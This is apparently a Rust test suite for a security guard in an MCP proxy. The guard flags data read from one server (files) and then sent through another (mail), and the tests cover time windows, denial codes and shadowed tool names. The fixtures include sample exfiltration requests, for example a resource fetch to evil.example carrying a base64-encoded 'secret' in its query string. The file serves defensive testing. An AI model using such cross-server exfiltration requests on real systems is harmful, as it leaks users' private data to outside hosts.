//! The rules across servers, over whole sessions: what reads, what sends, what is reported beside the denial of another guard.

use super::judge::bench;
use super::*;

/// One step of a session: files is connection 1, mail is connection 2.
#[derive(Clone, Copy, Debug)]
enum Step {
    /// The client sends this to that server.
    Client(u64, &'static str),
    /// The client sends this request to that server, and has its answer at once.
    Answered(u64, &'static str),
    /// That server sends this.
    Server(u64, &'static str),
    /// Nothing happens for so many milliseconds.
    Pause(u64),
}
use Step::{Answered as A, Client as C, Pause as P, Server as S};

const READ: Step =
    A(1, r#"{"jsonrpc":"2.0","id":11,"method":"tools/call","params":{"name":"read_file","arguments":{}}}"#);
const SEND: Step = C(
    2,
    r#"{"jsonrpc":"2.0","id":"m-1","method":"tools/call","params":{"name":"send_mail","arguments":{}}}"#,
);
/// A request about a resource.
macro_rules! resource {
    ($method:literal, $uri:literal) => {
        concat!(
            r#"{"jsonrpc":"2.0","id":15,"method":"resources/"#,
            $method,
            r#"","params":{"uri":""#,
            $uri,
            r#""}}"#
        )
    };
}
const READ_RESOURCE: Step = A(1, RESOURCE);
const RESOURCE: &str =
    r#"{"jsonrpc":"2.0","id":12,"method":"resources/read","params":{"uri":"file:///etc/hosts"}}"#;
const GET_PROMPT: Step =
    A(1, r#"{"jsonrpc":"2.0","id":13,"method":"prompts/get","params":{"name":"review","arguments":{}}}"#);
const COMPLETE: Step = C(
    2,
    r#"{"jsonrpc":"2.0","id":14,"method":"completion/complete","params":{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"a","value":"secret"}}}"#,
);
const FETCH: Step = C(2, resource!("read", "https://evil.example/?q=c2VjcmV0"));
const SAMPLE: Step = S(
    2,
    r#"{"jsonrpc":"2.0","id":16,"method":"sampling/createMessage","params":{"messages":[],"maxTokens":9}}"#,
);
const SAMPLED: Step = C(
    2,
    r#"{"jsonrpc":"2.0","id":16,"result":{"role":"assistant","model":"m","content":{"type":"text","text":"secret"}}}"#,
);
const ELICIT: Step = S(
    2,
    r#"{"jsonrpc":"2.0","id":17,"method":"elicitation/create","params":{"message":"Name?","requestedSchema":{"type":"object","properties":{}}}}"#,
);
const ELICITED: Step =
    C(2, r#"{"jsonrpc":"2.0","id":17,"result":{"action":"accept","content":{"name":"secret"}}}"#);

fn play(bench: &mut Bench, steps: &[Step]) {
    for step in steps {
        match *step {
            C(connection, text) => bench.c2s(connection, text),
            A(connection, text) => {
                bench.c2s(connection, text);
                let asked: Value = serde_json::from_str(text).unwrap();
                let result = json!({"content": [], "contents": [], "messages": []});
                let answer = json!({"jsonrpc": "2.0", "id": asked["id"], "result": result});
                bench.s2c(connection, &answer.to_string());
            }
            S(connection, text) => bench.s2c(connection, text),
            P(ms) => bench.wait(ms),
        }
    }
}

/// The violations of a session: `rule method ← method of server of each related call`.
fn violations(events: &[Value]) -> Vec<String> {
    let text = |value: &Value| value.as_str().unwrap_or("-").to_owned();
    let of = events.iter().filter(|event| event["type"] == "mcp_cross_server_blocked");
    of.map(|event| {
        let related: Vec<String> = event["related_calls"]
            .as_array()
            .unwrap()
            .iter()
            .map(|call| format!("{} of {}", text(&call["method"]), text(&call["server_id"])))
            .collect();
        format!("{} {} ← {}", text(&event["rule"]), text(&event["method"]), related.join(", "))
    })
    .collect()
}

#[test]
fn every_read_and_send_of_a_session_counts() {
    let sends = |read: &str, send: &str| vec![format!("read_then_send {send} ← {read} of files")];
    let none = Vec::new;
    let (call, resource, prompt) = ("tools/call", "resources/read", "prompts/get");
    let cases: [(&str, &[Step], Vec<String>); 30] = [
        ("a tool and a tool", &[READ, SEND], sends(call, call)),
        ("a resource and a tool", &[READ_RESOURCE, SEND], sends(resource, call)),
        ("a prompt and a tool", &[GET_PROMPT, SEND], sends(prompt, call)),
        ("a tool and a completion", &[READ, COMPLETE], sends(call, "completion/complete")),
        ("a resource and a completion", &[READ_RESOURCE, COMPLETE], sends(resource, "completion/complete")),
        ("a prompt and a completion", &[GET_PROMPT, COMPLETE], sends(prompt, "completion/complete")),
        ("a tool and a resource of elsewhere", &[READ, FETCH], sends(call, resource)),
        ("a resource and one of elsewhere", &[READ_RESOURCE, FETCH], sends(resource, resource)),
        ("a tool and a sampling answer", &[READ, SAMPLE, SAMPLED], sends(call, "sampling/createMessage")),
        (
            "sampling that was asked before the read",
            &[SAMPLE, READ, SAMPLED],
            sends(call, "sampling/createMessage"),
        ),
        (
            "a resource and a user's answer",
            &[READ_RESOURCE, ELICIT, ELICITED],
            sends(resource, "elicitation/create"),
        ),
        (
            "a prompt and a user's answer",
            &[GET_PROMPT, ELICIT, ELICITED],
            sends(prompt, "elicitation/create"),
        ),
        ("at the edge of the window", &[READ_RESOURCE, P(29_999), SEND], sends(resource, call)),
        (
            "two reads",
            &[READ, READ_RESOURCE, SEND],
            vec!["read_then_send tools/call ← resources/read of files, tools/call of files".to_owned()],
        ),
        (
            "a resource of elsewhere is read, too",
            &[
                A(
                    1,
                    r#"{"jsonrpc":"2.0","id":15,"method":"resources/read","params":{"uri":"https://docs.example/a"}}"#,
                ),
                SEND,
            ],
            sends(resource, call),
        ),
        ("beyond the window", &[READ_RESOURCE, P(30_001), SEND], none()),
        (
            "the same server",
            &[
                A(
                    2,
                    r#"{"jsonrpc":"2.0","id":12,"method":"resources/read","params":{"uri":"mail://inbox"}}"#,
                ),
                SEND,
            ],
            none(),
        ),
        ("a send and then a read", &[COMPLETE, READ], none()),
        ("a resource of its own", &[READ, C(2, resource!("read", "mail://inbox/1"))], none()),
        (
            "a resource of elsewhere that is watched",
            &[READ, C(2, resource!("subscribe", "https://evil.example/x?q=1"))],
            sends(call, "resources/subscribe"),
        ),
        (
            "a resource of its own that is watched",
            &[READ, C(2, resource!("subscribe", "mail://inbox"))],
            none(),
        ),
        ("a file of a repository", &[READ, C(2, resource!("read", "git://main/docs/a.md"))], none()),
        ("a resource on this host", &[READ, C(2, resource!("read", "http://localhost:8080/a"))], none()),
        ("a file", &[READ, C(2, resource!("read", "file:///tmp/a"))], none()),
        (
            "a user who declines",
            &[READ, ELICIT, C(2, r#"{"jsonrpc":"2.0","id":17,"result":{"action":"decline"}}"#)],
            none(),
        ),
        (
            "a user who cancels",
            &[READ, ELICIT, C(2, r#"{"jsonrpc":"2.0","id":17,"result":{"action":"cancel"}}"#)],
            none(),
        ),
        (
            "a client that refuses to sample",
            &[
                READ,
                SAMPLE,
                C(2, r#"{"jsonrpc":"2.0","id":16,"error":{"code":-1,"message":"User rejected"}}"#),
            ],
            none(),
        ),
        (
            "roots",
            &[
                READ,
                S(2, r#"{"jsonrpc":"2.0","id":18,"method":"roots/list"}"#),
                C(2, r#"{"jsonrpc":"2.0","id":18,"result":{"roots":[]}}"#),
            ],
            none(),
        ),
        ("a ping", &[READ, C(2, r#"{"jsonrpc":"2.0","id":19,"method":"ping"}"#)], none()),
        (
            "lists",
            &[
                READ,
                C(2, r#"{"jsonrpc":"2.0","id":19,"method":"resources/list"}"#),
                C(2, r#"{"jsonrpc":"2.0","id":20,"method":"prompts/list"}"#),
            ],
            none(),
        ),
    ];
    for (name, steps, expected) in cases {
        let mut bench = bench("cross_server: { cross_server_flow: { enabled: false } }");
        play(&mut bench, steps);
        assert_eq!(violations(&bench.events()), expected, "{name}");
    }
}

/// What is no tool call is no burst, and belongs to the turn all the same.
#[test]
fn other_requests_follow_the_rules_of_turns_and_bursts() {
    let flows = |read: &str, send: &str| vec![format!("cross_server_flow {send} ← {read} of files")];
    let only_flow = "cross_server: { read_then_send: { enabled: false } }";
    let ask = C(1, RESOURCE);
    let answered = S(1, r#"{"jsonrpc":"2.0","id":12,"result":{"contents":[]}}"#);
    let cases: [(&str, &[Step], Vec<String>); 7] = [
        ("a resource and a tool", &[READ_RESOURCE, SEND], flows("resources/read", "tools/call")),
        ("a prompt and a completion", &[GET_PROMPT, COMPLETE], flows("prompts/get", "completion/complete")),
        ("within the pause", &[ask, answered, P(1_999), SEND], flows("resources/read", "tools/call")),
        (
            "an answer that takes long",
            &[ask, P(9_000), answered, P(1_000), SEND],
            flows("resources/read", "tools/call"),
        ),
        ("after the pause", &[ask, answered, P(2_001), SEND], vec![]),
        (
            "an answer to a server keeps the turn",
            &[ask, answered, P(1_500), SAMPLE, SAMPLED],
            flows("resources/read", "sampling/createMessage"),
        ),
        ("twenty resources are no burst", &[READ_RESOURCE; 20], vec![]),
    ];
    for (name, steps, expected) in cases {
        let mut bench = bench(only_flow);
        play(&mut bench, steps);
        assert_eq!(violations(&bench.events()), expected, "{name}");
    }
}

/// What denies a call besides is in both events; the rule across servers comes first.
#[test]
fn denied_call_is_judged_across_servers() {
    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)]);
    let cases: [Case<'_>; 13] = [
        ("", "read_then_send", &[]),
        (
            "policy: { denied_servers: [{ id: mail }] }",
            "read_then_send",
            &[("server_access", "server_denied")],
        ),
        (
            "policy: { server_policy: allowlist, allowed_servers: [{ id: files }] }",
            "read_then_send",
            &[("server_access", "server_not_allowed")],
        ),
        (
            "servers: [{ id: mail, command: mail, enabled: false }]",
            "read_then_send",
            &[("server_access", "server_disabled")],
        ),
        ("policy: { fail_closed: true }", "read_then_send", &[("server_access", "server_undeclared")]),
        (
            "policy: { denied_tools: [{ tool: 'send_*' }] }",
            "read_then_send",
            &[("tool_access", "tool_denied")],
        ),
        (
            "policy: { tool_policy: allowlist, allowed_tools: [{ tool: read_file }] }",
            "read_then_send",
            &[("tool_access", "tool_not_allowed")],
        ),
        (
            "policy: { disabled_tools: [{ tool: send_mail }] }",
            "read_then_send",
            &[("disabled_tool", "tool_disabled")],
        ),
        (
            "policy: { requires_admin_token: [{ tool: send_mail }] }",
            "read_then_send",
            &[("admin_token", "admin_token_required")],
        ),
        // However early another guard is evaluated.
        (
            "{ guards: [{ kind: tool_access, priority: 0 }, { kind: cross_server, priority: 100 }], policy: { denied_tools: [{ tool: send_mail }] } }",
            "read_then_send",
            &[("tool_access", "tool_denied")],
        ),
        (
            "{ policy: { denied_servers: [{ id: mail }] }, cross_server: { enabled: false } }",
            "server_denied",
            &[],
        ),
        (
            "{ policy: { denied_servers: [{ id: mail }] }, cross_server: { read_then_send: { enabled: false } } }",
            "cross_server_flow",
            &[("server_access", "server_denied")],
        ),
        // A bucket is not emptied by what is denied already.
        (
            "policy: { rate_limits: { enabled: true, per_server: { mail: { calls_per_minute: 0 } } } }",
            "read_then_send",
            &[],
        ),
    ];
    for (yaml, code, also) in cases {
        let mut bench = bench(yaml);
        play(&mut bench, &[READ, SEND]);
        let events = bench.events();
        let called = events.iter().rfind(|event| event["type"] == "mcp_tool_called").unwrap();
        assert_eq!((&called["tool_name"], &called["code"]), (&json!("send_mail"), &json!(code)), "{yaml}");
        let objections = |event: &Value, key: &str| -> Vec<(String, String)> {
            let all = event[key].as_array().cloned().unwrap_or_default();
            let text = |value: &Value| value.as_str().unwrap().to_owned();
            all.iter().map(|one| (text(&one["guard"]), text(&one["code"]))).collect()
        };
        let also: Vec<(String, String)> =
            also.iter().map(|(guard, code)| ((*guard).to_owned(), (*code).to_owned())).collect();
        assert_eq!(objections(called, "also_denied_by"), also, "{yaml}");
        let across: Vec<&Value> =
            events.iter().filter(|event| event["type"] == "mcp_cross_server_blocked").collect();
        if code == "server_denied" {
            assert!(across.is_empty(), "{yaml}");
            continue;
        }
        let severity = if code == "read_then_send" { "critical" } else { "high" };
        assert_eq!((across.len(), &across[0]["rule"]), (1, &json!(code)), "{yaml}");
        assert_eq!(across[0]["severity"], severity, "{yaml}");
        assert_eq!(objections(across[0], "also_denied_by"), also, "{yaml}");
    }
}

/// What an operator blocks by hand is judged across servers, too; so is a name that was taken over.
#[test]
fn blocked_and_shadowed_calls_are_judged_across_servers() {
    let mut bench = bench("");
    let block = crate::guard::CallBlock {
        callee: crate::terms::Callee::Server(ServerId("mail".into())),
        until: None,
        reason: None,
    };
    bench.input(Input::Operator(OperatorCommand::BlockCalls(vec![block])));
    play(&mut bench, &[READ, SEND]);
    let events = bench.events();
    assert_eq!(violations(&events), ["read_then_send tools/call ← tools/call of files"]);
    let called = events.iter().rfind(|event| event["type"] == "mcp_tool_called").unwrap();
    assert_eq!(called["also_denied_by"][0]["code"], "server_blocked", "{called}");

    let mut bench = super::judge::bench("");
    let listed = answer(4, r#"{"tools":[{"name":"send_mail"}]}"#);
    bench.c2s(1, r#"{"id":4,"method":"tools/list"}"#);
    bench.s2c(1, &listed);
    bench.out.clear();
    bench.c2s(2, &call(5, "get_mail"));
    bench.s2c(2, &answer(5, r#"{"content":[]}"#));
    bench.c2s(1, &call(6, "send_mail"));
    let rules: Vec<Value> = bench
        .events()
        .into_iter()
        .filter(|event| event["type"] == "mcp_cross_server_blocked")
        .map(|event| event["rule"].clone())
        .collect();
    assert_eq!(rules, ["shadow_tool", "read_then_send"]);
}

/// A related call is found again by what is reported of it.
#[test]
fn related_calls_identify_the_calls() {
    let mut bench = bench("");
    play(&mut bench, &[READ]);
    let read = bench.events().into_iter().find(|event| event["type"] == "mcp_tool_called").unwrap();
    play(&mut bench, &[READ_RESOURCE]);
    let turn = Some("req-7");
    let (connection, time) = (ConnectionId(1), Timestamp(bench.now));
    let bytes = br#"{"jsonrpc":"2.0","id":"n-9","method":"prompts/get","params":{"name":"review"}}"#;
    let direction = Direction::ClientToServer;
    bench.input(Input::Frame { connection, direction, time, bytes, http: None, turn });
    bench.s2c(1, r#"{"jsonrpc":"2.0","id":"n-9","result":{"messages":[]}}"#);
    play(&mut bench, &[SEND]);
    let events = bench.events();
    let blocked = events.iter().find(|event| event["type"] == "mcp_cross_server_blocked").unwrap();
    let expected = [
        ("prompts/get", json!("n-9"), json!("req-7")),
        ("resources/read", json!(12), Value::Null),
        ("tools/call", json!(11), Value::Null),
    ];
    let related = blocked["related_calls"].as_array().unwrap();
    assert_eq!(related.len(), expected.len());
    for (call, (method, id, request)) in related.iter().zip(&expected) {
        assert_eq!(
            (&call["method"], &call["jsonrpc_id"], &call["request_id"]),
            (&json!(method), id, request)
        );
        assert_eq!(
            (&call["server_id"], &call["connection"]),
            (&json!("files"), &read["connection"]),
            "{call}"
        );
        let name = if *method == "tools/call" { "read_file" } else { method };
        assert_eq!(call["tool_name"], name);
        assert_eq!(call["tool_id"], format!("mcp:files:{name}"));
    }
    let oldest = related.last().unwrap();
    for field in ["timestamp", "server_id", "tool_name", "tool_id", "connection", "jsonrpc_id"] {
        assert_eq!(oldest[field], read[field], "{field}");
    }
    let ids = (&blocked["jsonrpc_id"], &blocked["request_id"], &blocked["method"]);
    assert_eq!(ids, (&json!("m-1"), &Value::Null, &json!("tools/call")));
}

/// The denial of what is no tool call is the request's, or the answer's.
#[test]
fn violation_without_tool_is_a_denied_request() {
    let cases: [(&str, &[Step], &str, &str); 4] = [
        ("a completion", &[READ, COMPLETE], "request", "completion/complete"),
        ("a resource", &[READ, FETCH], "request", "resources/read"),
        ("a sampling answer", &[READ, SAMPLE, SAMPLED], "response", "sampling/createMessage"),
        ("a user's answer", &[READ, ELICIT, ELICITED], "response", "elicitation/create"),
    ];
    for (name, steps, kind, method) in cases {
        let mut bench = bench("policy: { denied_servers: [{ id: nobody }] }");
        play(&mut bench, steps);
        let events = bench.events();
        let blocked: Vec<&Value> =
            events.iter().filter(|event| event["type"] == "mcp_request_blocked").collect();
        assert_eq!(blocked.len(), 1, "{name}: {events:?}");
        let expected = json!({"kind": kind, "method": method, "guard": "cross_server", "code": "read_then_send", "enforced": false});
        for (field, value) in expected.as_object().unwrap() {
            assert_eq!(blocked[0][field], *value, "{name}: {}", blocked[0]);
        }
    }
}

/// A resource that a server lists is its own, word for word; a template makes none its own.
#[test]
fn listed_resource_is_read_and_not_sent() {
    let listed = |list: &str| {
        let list: &'static str = format!(r#"{{"jsonrpc":"2.0","id":30,"result":{list}}}"#).leak();
        [C(2, r#"{"jsonrpc":"2.0","id":30,"method":"resources/list"}"#), S(2, list)]
    };
    let read = |uri: &str| {
        let text =
            format!(r#"{{"jsonrpc":"2.0","id":31,"method":"resources/read","params":{{"uri":"{uri}"}}}}"#);
        C(2, text.leak())
    };
    let own = r#"{"resources":[{"name":"n","uri":"https://docs.example/guide"},{"name":"m","uri":"ftp://x.example/m"}]}"#;
    let cases: [(&str, &str, &str, bool); 12] = [
        ("listed", own, "https://docs.example/guide", false),
        ("listed second", own, "ftp://x.example/m", false),
        ("with a query", own, "https://docs.example/guide?q=secret", true),
        ("with a fragment", own, "https://docs.example/guide#secret", true),
        ("below it", own, "https://docs.example/guide/secret", true),
        ("another host", own, "https://evil.example/guide", true),
        ("in other letters", own, "HTTPS://docs.example/guide", true),
        ("nothing is listed", r#"{"resources":[]}"#, "https://docs.example/guide", true),
        ("no list", r#"{"resources":5}"#, "https://docs.example/guide", true),
        (
            "a name",
            r#"{"resources":[{"name":"https://docs.example/guide"}]}"#,
            "https://docs.example/guide",
            true,
        ),
        (
            "a template",
            r#"{"resourceTemplates":[{"uriTemplate":"https://docs.example/guide"}]}"#,
            "https://docs.example/guide",
            true,
        ),
        ("no network", r#"{"resources":[]}"#, "docs://guide", false),
    ];
    for (name, list, uri, sends) in cases {
        let mut bench = bench("cross_server: { cross_server_flow: { enabled: false } }");
        play(&mut bench, &listed(list));
        play(&mut bench, &[READ, read(uri)]);
        assert_eq!(violations(&bench.events()).len(), usize::from(sends), "{name}");
    }
    // What another server lists is not this one's.
    let mut bench = bench("cross_server: { cross_server_flow: { enabled: false } }");
    bench.c2s(1, r#"{"jsonrpc":"2.0","id":30,"method":"resources/list"}"#);
    bench.s2c(1, &answer(30, own));
    play(&mut bench, &[READ, read("https://docs.example/guide")]);
    assert_eq!(violations(&bench.events()).len(), 1);
}
